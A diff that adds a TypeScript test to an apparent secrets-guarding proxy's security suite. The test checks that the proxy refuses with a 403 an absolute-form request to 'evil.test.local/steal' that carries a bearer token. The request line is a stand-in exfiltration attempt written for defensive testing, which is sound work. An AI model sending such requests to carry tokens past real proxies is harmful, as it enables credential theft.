@@ -433,6 +433,22 @@ test('hostile: Host header disagreeing with the connection is refused', async ()
   assertRefused(r, 'host-mismatch', `stockade: request for 'evil.test.local' on a connection to ${HOST}:${up.port}; host and connection must agree`);
 });
 
+test('hostile: an absolute-form request target for another host is refused', async () => {
+  const socket = await tlsThroughProxy(proxy.port, HOST, up.port, ca.certPem);
+  const answer = await new Promise<string>((resolve) => {
+    let text = '';
+    socket.on('data', (d) => {
+      text += d;
+    });
+    socket.on('close', () => resolve(text));
+    socket.write(`GET https://evil.test.local/steal HTTP/1.1\r\nHost: ${HOST}:${up.port}\r\nAuthorization: Bearer ${ph.TOKEN}\r\n\r\n`);
+  });
+  assert.match(answer, /^HTTP\/1\.1 403 Forbidden\r\n/);
+  const body = JSON.parse(answer.slice(answer.indexOf('\r\n\r\n') + 4));
+  assert.equal(body.rule, 'host-mismatch');
+  assert.equal(body.message, `stockade: request for 'evil.test.local' on a connection to ${HOST}:${up.port}; host and connection must agree`);
+});
+
 test('hostile: TLS server name disagreeing with the connection is refused', async () => {
   const { connectTunnel } = await import('./helpers/secrets-harness');
   const raw = await connectTunnel(proxy.port, HOST, up.port);
